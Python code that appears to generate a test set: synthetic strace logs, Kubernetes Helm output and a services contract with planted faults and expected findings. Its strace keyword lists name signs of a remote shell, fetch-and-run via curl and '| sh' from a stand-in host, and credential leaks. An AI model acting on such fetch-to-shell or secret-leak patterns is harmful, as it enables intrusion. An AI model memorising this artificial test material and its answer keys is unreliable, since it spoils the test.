        number, length = rng.randint(3, 40), rng.randint(20, 4096)
        body = {
            "read": f'read({number}, "{rng.choice(w.VERBS)} {rng.choice(w.NOUNS)} "..., 4096) = {length}',
            "write": f'write({number}, "HTTP/1.1 200 OK\\r\\n"..., {length}) = {length}',
            "epoll_wait": f"epoll_wait(6, [{{events=EPOLLIN, data={{u32={number}}}}}], 128, -1) = 1",
            "openat": f'openat(AT_FDCWD, "/srv/shop/{rng.choice(w.SERVICES)}/{rng.choice(w.NOUNS)}.json",'
            f" O_RDONLY|O_CLOEXEC) = {number}",
            "close": f"close({number}) = 0",
            "futex": f"futex(0x7f{w.hexes(rng, 8)}, FUTEX_WAKE_PRIVATE, 1) = 1",
            "stat": f'stat("/srv/shop/{rng.choice(w.NOUNS)}.cfg", '
            f"0x7ffd{w.hexes(rng, 6)}) = -1 ENOENT (No such file or directory)",
        }[call] + f" <0.0000{rng.randint(10, 98)}>"
        mark = back.get(k, "")
        if mark:
            body, owner[mark] = special[mark], pid
            call = body.split("(")[0]
        tally[call] += 1
        missed += "ENOENT" in body
        page.add(f"[pid {pid}] {stamps[k]} {body}", mark=mark or f"k{k}")
    page.add(f"[pid {pids[0]}] {stamps[size - 1][:8]}.999001 +++ exited with 139 +++", mark="end")
    telling = {
        "segv": ["SIGSEGV"],
        "full": ["ENOSPC", "No space left"],
        "net": ["185.220.101.7", "ETIMEDOUT"],
        "slow": [took, took[:4]],
        "shell": ["pkg-dl.example", 'execve("/bin/sh"', "curl -s"],
        "many": ["EMFILE", "Too many open"],
        "leak": ["DB_PASSWORD"],
        "debug": ["PTRACE_ATTACH", "ptrace"],
        "deny": ["shop.key", "EACCES"],
        "huge": [big],
        "gone": ["orders.db"],
        "chmod": ["0777"],
    }
    beside = {
        "segv": ["SEGV_MAPERR", "si_addr"],
        "full": ["write"],
        "net": ["connect", "4444"],
        "slow": ["fsync"],
        "shell": ["execve", "| sh"],
        "many": ["accept4"],
        "leak": ["read", "secret", "password"],
        "debug": ["EPERM", "PTRACE"],
        "deny": ["Permission denied", "openat"],
        "huge": ["mmap"],
        "gone": ["unlink"],
        "chmod": ["chmod"],
    }
    for mark in marks:
        page.one(
            "error" if "= -1" in special[mark] else "rare value",
            mark,
            telling[mark],
            [stamps[spots[mark]][:12], *beside[mark]],
            str(telling[mark][0])[:16],
            beside[mark][0],
            hidden=secret if mark == "leak" else "",
        )
    a, b = stamps[gap - 1][:8], stamps[gap][:8]
    page.n.say(
        "gap",
        ((a, b), *((x, y) for x in (a, b) for y in ("gap", "jump", "pause"))),
        a,
        b,
        line=page.at[f"k{gap}"],
    )
    page.n.say("summary", (("exited with 139",), ("139", "exit")), "exited", line=page.at["end"])
    page.n.say("count", w.count("read", tally["read"], "read("), "read(", derived=True)
    page.n.say("count", w.count("ENOENT", missed, "No such file"), "ENOENT", derived=True)
    return page.parts()


@kind("helm_template", "printed")
def helm_template(rng: random.Random) -> Parts:  # noqa: C901
    """`helm template`: many YAML documents, each with the template it comes from."""
    page = Page()
    names = sorted(rng.sample(w.SERVICES, 25))
    marks = ("priv", "host", "latest", "zero", "bare", "port", "old", "space", "leak", "mem", "open", "debug")
    spots = dict(zip(marks, rng.sample(range(1, len(names) - 1), len(marks)), strict=False))
    kinds: Counter[str] = Counter()
    many = rng.randint(120, 190)
    secret = w.alnum(rng, 26)
    version = f"{rng.randint(2, 5)}.{rng.randint(1, 19)}"

    def head(api: str, what: str, name: str, template: str, space: str = "shop") -> None:
        kinds[what] += 1
        page.add(
            "---",
            f"# Source: shop/templates/{name}/{template}.yaml",
            f"apiVersion: {api}",
            f"kind: {what}",
            "metadata:",
            f"  name: {name}",
            f"  namespace: {space}",
            "  labels:",
            f"    app.kubernetes.io/name: {name}",
            "    app.kubernetes.io/managed-by: Helm",
            f"    helm.sh/chart: shop-{version}.0",
        )

    for i, name in enumerate(names):
        is_ = {mark: at == i for mark, at in spots.items()}
        port = rng.choice((8080, 8081, 9000, 3000))
        head("apps/v1", "Deployment", name, "deployment", "default" if is_["space"] else "shop")
        if is_["space"]:
            page.at["space"] = len(page.lines) - 4
        replicas = 0 if is_["zero"] else many if is_["debug"] else rng.randint(2, 5)
        page.add(
            "spec:",
            f"  replicas: {replicas}",
            "  strategy:",
            "    type: RollingUpdate",
            "  selector:",
            "    matchLabels:",
            f"      app.kubernetes.io/name: {name}",
            "  template:",
            "    metadata:",
            "      labels:",
            f"        app.kubernetes.io/name: {name}",
            "    spec:",
            f"      serviceAccountName: {name}",
        )
        for mark in ("zero", "debug"):
            if is_[mark]:
                page.at[mark] = len(page.lines) - 11
        if is_["host"]:
            page.add("      hostNetwork: true", mark="host")
        tag = "latest" if is_["latest"] else f"{version}.{rng.randint(0, 9)}"
        page.add(
            "      containers:",
            f"        - name: {name}",
            f'          image: "reg.acme.example/shop/{name}:{tag}"',
        )
        if is_["latest"]:
            page.at["latest"] = len(page.lines)
        page.add(
            "          imagePullPolicy: IfNotPresent",
            "          ports:",
            "            - name: http",
            f"              containerPort: {port}",
        )
        page.add(
            "          securityContext:",
            f"            privileged: {'true' if is_['priv'] else 'false'}",
            "            runAsNonRoot: true",
        )
        if is_["priv"]:
            page.at["priv"] = len(page.lines) - 1
        page.add("          env:")
        for _ in range(rng.randint(3, 7)):
            page.add(
                f"            - name: {rng.choice(w.NOUNS).upper()}_{rng.choice(w.NOUNS).upper()}",
                f'              value: "{rng.choice(w.ADJECTIVES)}"',
            )
        if is_["leak"]:
            page.add("            - name: SMTP_PASSWORD", f'              value: "{secret}"', mark="leak")
        page.add(
            "          livenessProbe:",
            "            httpGet:",
            "              path: /healthz",
            "              port: http",
            f"            periodSeconds: {rng.choice((10, 15, 20))}",
        )
        if is_["bare"]:
            page.at["bare"] = len(page.lines)
        else:
            limit = f"{rng.choice((256, 512, 768))}Mi" if not is_["mem"] else f"{rng.randint(70, 99)}Ti"
            page.add(
                "          resources:",
                "            requests:",
                f"              cpu: {rng.choice((100, 200, 250))}m",
                "            limits:",
                f"              memory: {limit}",
            )
            if is_["mem"]:
                page.at["mem"], huge = len(page.lines), limit
        head("v1", "Service", name, "service")
        page.add(
            "spec:",
            f"  type: {'LoadBalancer' if is_['open'] else 'ClusterIP'}",
            "  ports:",
            "    - port: 80",
            f"      targetPort: {7777 if is_['port'] else port}",
            "      protocol: TCP",
            "  selector:",
            f"    app.kubernetes.io/name: {name}",
        )
        if is_["open"]:
            page.at["open"] = len(page.lines) - 6
        if is_["port"]:
            page.at["port"] = len(page.lines) - 3
        head("v1", "ServiceAccount", name, "serviceaccount")
        page.add("automountServiceAccountToken: false")
        head("v1", "ConfigMap", name, "configmap")
        page.add(
            "data:",
            *(
                f'  {rng.choice(w.NOUNS)}.{rng.choice(w.NOUNS)}: "{rng.choice(w.ADJECTIVES)}"'
                for _ in range(rng.randint(4, 9))
            ),
        )
        if is_["old"]:
            page.at["old"] = len(page.lines) + 3
            head("extensions/v1beta1", "Ingress", name, "ingress")
            page.add("spec:", "  rules:", f"    - host: {name}.acme.example")
        elif rng.random() < 0.5:
            head("networking.k8s.io/v1", "Ingress", name, "ingress")
            page.add("spec:", "  rules:", f"    - host: {name}.acme.example")
        if rng.random() < 0.4:
            head("autoscaling/v2", "HorizontalPodAutoscaler", name, "hpa")
            page.add("spec:", "  minReplicas: 2", f"  maxReplicas: {rng.randint(6, 12)}")
    again = names[12]
    head("v1", "Service", again, "service-extra")
    page.add("spec:", "  type: ClusterIP", "  ports:", "    - port: 81")
    page.at["again"] = len(page.lines) - 9

    def host(mark: str) -> str:
        return names[spots[mark]]

    page.one(
        "rare value",
        "priv",
        ["privileged: true", "privileged=true"],
        [host("priv"), "securityContext"],
        "privileged: true",
        "privileged",
    )
    page.one("rare value", "host", ["hostNetwork"], [host("host"), "true"], "hostNetwork")
    page.one("rare value", "latest", [":latest", "latest"], [host("latest"), "image"], ":latest", "latest")
    page.one(
        "outlier",
        "zero",
        ["replicas: 0", "replicas=0", "0 replicas", "replicas 0"],
        [host("zero")],
        "replicas: 0",
        "replicas",
    )
    page.one(
        "outlier", "debug", [f"replicas: {many}", many], [host("debug"), "replicas"], "replicas", str(many)
    )
    page.n.say(
        "missing field",
        tuple((host("bare"), a, b) for a in ("resources", "limits") for b in w.GONE),
        "periodSeconds",
        host("bare"),
        "resources:",
        line=page.at["bare"],
        derived=True,
    )
    page.one("contradiction", "port", ["7777"], [host("port"), "targetPort"], "targetPort", "7777")
    page.one(
        "rare value",
        "old",
        ["extensions/v1beta1"],
        [host("old"), "Ingress", "apiVersion"],
        "v1beta1",
        "apiVersion",
    )
    page.one(
        "rare value",
        "space",
        ["namespace: default", "default"],
        [host("space"), "namespace"],
        "namespace: default",
    )
    page.one(
        "secret",
        "leak",
        ["SMTP_PASSWORD"],
        [host("leak"), "secret", "env", "plain", "value"],
        "PASSWORD",
        hidden=secret,
    )
    page.one("outlier", "mem", [huge], [host("mem"), "memory"], huge, "memory")
    page.one("rare value", "open", ["LoadBalancer"], [host("open"), "type"], "LoadBalancer")
    page.n.say(
        "duplicate",
        (*tuple((again, "service", x) for x in w.SAME), (again, "service-extra")),
        "service-extra",
        again,
        line=page.at["again"],
    )
    page.n.say(
        "count",
        w.count("Deployment", kinds["Deployment"], "kind: Deployment"),
        "kind: Deployment",
        derived=True,
    )
    page.n.say("count", w.count("Ingress", kinds["Ingress"], "kind: Ingress"), "kind: Ingress", derived=True)
    page.n.say(
        "total",
        w.total(sum(kinds.values()), "documents", "docs", "manifests", "objects", "resources", "sources"),
        "# Source",
        derived=True,
    )
    return page.parts()


@kind("contract_pdf", "printed")
def contract_pdf(rng: random.Random) -> Parts:
    """A contract as a converter of PDF gives it: wrapped clauses with a footer on each page."""
    page = Page()
    buyer, seller = f"{rng.choice(w.LAST)} Retail plc", f"{rng.choice(w.LAST)} Hosting BV"
    titles = [
        "Definitions",
        "Scope",
        "Term",
        "Fees",
        "Invoices",
        "Service Levels",
        "Support",
        "Change Control",
        "Personnel",
        "Security",
        "Data Protection",
        "Audit",
        "Confidentiality",
        "Intellectual Property",
        "Warranties",
        "Indemnities",
        "Liability",
        "Insurance",
        "Termination",
        "Exit",
        "Force Majeure",
        "Notices",
        "Assignment",
        "General",
    ]
    clauses: list[tuple[str, str]] = []
    for k, name in enumerate(titles, 1):
        clauses.append((f"{k}.", name.upper()))
        for j in range(1, rng.randint(8, 12)):
            body = " ".join(w.sentence(rng) for _ in range(rng.randint(2, 4)))
            body = (
                body.replace(" is used to ", " shall be used to ")
                .replace("We ", "The Supplier shall ")
                .replace("we ", "the Supplier shall ")
            )
            clauses.append((f"{k}.{j}", body))
    inner = [
        i
        for i, (number, _) in enumerate(clauses)
        if "." in number[:-1] and number.split(".")[1] not in ("", "1")
    ]
    marks = (
        "cap",
        "other",
        "blank",
        "auto",
        "rate",
        "law",
        "cross",
        "draft",
        "bank",
        "data",
        "exit",
        "notice",
    )
    picks = dict(zip(marks, (inner[k] for k in w.spots(rng, len(inner), len(marks), apart=5)), strict=False))
    if picks["cap"] > picks["other"]:
        picks["cap"], picks["other"] = picks["other"], picks["cap"]
    iban = "NL" + str(rng.randint(10, 99)) + "BANK" + str(rng.randint(10**9, 10**10 - 1))
    words = {
        "cap": "The total liability of the Supplier in each contract year shall not exceed EUR 250,000.",
        "other": "Notwithstanding any other clause, the liability of the Supplier for loss of data is unlimited.",
        "blank": "The Service Credit for each missed Service Level is [●] per cent of the monthly Charges.",
        "auto": "This Agreement renews automatically for further periods of 60 months unless cancelled 18 months before expiry.",
        "rate": "Overdue sums bear interest at 4.5 per cent per day from the due date until payment.",
        "law": "Disputes under this clause are governed by the laws of the Cayman Islands.",
        "cross": "The obligations of this clause survive as set out in clause 47.3 of this Agreement.",
        "draft": "[Note to draft: counsel to confirm, client has NOT agreed to this wording]",
        "bank": f"Payments shall be made only to the account {iban} from the Effective Date.",
        "data": "The Supplier may transfer Personal Data to sub-processors outside the EEA without prior consent.",
        "exit": "Early termination by the Customer triggers a payment of EUR 1,875,000 within five days.",
        "notice": "Either party may terminate for convenience on 3 days' notice.",
    }
    numbers = {}
    for mark, i in picks.items():
        number, body = clauses[i]
        numbers[mark] = number
        clauses[i] = (number, words[mark] + " " + body.split(". ", 1)[-1])
    free = [
        i
        for i in inner[:-1]
        if i + 1 < len(clauses)
        and all(abs(i - x) > 2 for x in picks.values())
        and clauses[i + 1][0].count(".") == 1
        and clauses[i + 1][0][-1] != "."
        and len(clauses) * 0.2 < i < len(clauses) * 0.8
    ]
    hole = rng.choice(free)
    skipped = clauses.pop(hole)[0]
    lines = [
        "MASTER SERVICES AGREEMENT",
        "",
        f"between {buyer} (the Customer)",
        f"and {seller} (the Supplier)",
        "",
        "Effective Date: 1 October 2025",
        "",
    ]
    for number, body in clauses:
        if number.endswith("."):
            lines += ["", f"{number} {body}", ""]
        else:
            lines += w.wrap(f"{number} {body}", 92)
    pages, height = 0, 44
    jump = rng.randint(8, 12)
    total = len(lines) // height + 1
    stated = total + 9
    for at, line in enumerate(lines):
        page.add(line)
        if at % height == height - 1:
            pages += 1
            shown = pages + 1 if pages >= jump else pages
            page.add(
                "",
                f"{seller} – Master Services Agreement – Confidential                     Page {shown} of {stated}",
                "\f",
                mark=f"p{pages}",
            )
    sign = [
        "",
        f"Signed for {buyer}: ____________________ (unsigned)",
        f"Signed for {seller}: /s/ {w.person(rng)}, 12 September 2025",
    ]
    page.add(*sign, mark="sign")
    text = page.lines
    for mark in marks:
        start = words[mark][:22]
        found = [
            k for k, line in enumerate(text, 1) if line.startswith(f"{numbers[mark]} ") and start[:12] in line
        ]
        page.at[mark] = found[0]
    tell = {
        "cap": (["250,000"], ["liability", "exceed"], "exceed EUR", "liability"),
        "other": (["unlimited"], ["liability", "loss of data"], "unlimited", "Notwithstanding"),
        "blank": (["[●]"], ["Service Credit", "per cent", "placeholder"], "[●]", "Service Credit"),
        "auto": (["60 months", "renews automatically"], ["18 months", "renew"], "renews", "60 months"),
        "rate": (
            ["4.5 per cent", "4.5 %", "4.5%"],
            ["per day", "Overdue", "interest"],
            "interest",
            "per cent per day",
        ),
        "law": (["Cayman"], ["laws", "governed"], "governed", "laws of"),
        "cross": (["47.3"], ["clause", "survive"], "47.3", "clause 47"),
        "draft": (["Note to draft", "NOT agreed"], ["counsel", "client"], "Note to draft", "[Note"),
        "bank": ([iban, iban[:8], "IBAN"], ["account", "Payments"], "account", "Payments shall"),
        "data": (
            ["outside the EEA"],
            ["Personal Data", "consent", "sub-processors"],
            "EEA",
            "sub-processors",
        ),
        "exit": (["1,875,000"], ["termination", "triggers"], "EUR 1,875,000", "Early termination"),
        "notice": (
            ["3 days' notice", "terminate for convenience"],
            ["convenience", "3 days"],
            "convenience",
            "terminate",
        ),
    }
    for mark, (telling, more, *searches) in tell.items():
        what = {"other": "contradiction", "blank": "missing field", "cross": "contradiction"}.get(
            mark, "rare value"
        )
        page.one(what, mark, telling, [f"{numbers[mark]} ", *more], *searches)
    section, sub = skipped.split(".")
    before, after = f"{section}.{int(sub) - 1}", f"{section}.{int(sub) + 1}"
    page.n.say(
        "gap",
        (
            (skipped, "missing"),
            (skipped, "gap"),
            (skipped, "absent"),
            (skipped, "skip"),
            (before, after, "gap"),
            (before, after, "jump"),
            (before, after, "missing"),
            (before, after, "→"),
        ),
        after,
        line=0,
        derived=True,
    )
    page.n.say(
        "gap",
        (
            *tuple((f"page {jump}", x) for x in ("missing", "absent", "gap", "skip")),
            (f"page {jump - 1}", f"{jump + 1}", "gap"),
            (f"page {jump - 1}", f"page {jump + 1}", "missing"),
            (f"{jump - 1}", f"{jump + 1}", "gap", "page"),
        ),
        f"Page {jump + 1}",
        line=page.at[f"p{jump}"] + 1,
        derived=True,
    )
    page.n.say(
        "missing field",
        (("unsigned", buyer), ("unsigned", "Signed for"), ("unsigned", str(page.at["sign"] + 1))),
        "Signed for",
        "unsigned",
        line=page.at["sign"] + 1,
    )
    page.n.say(
        "contradiction",
        (
            (f"of {stated}", str(pages)),
            (f"{stated} pages", str(pages)),
            (str(stated), str(pages + 1), "page"),
        ),
        f"of {stated}",
        derived=True,
    )
    return page.parts()
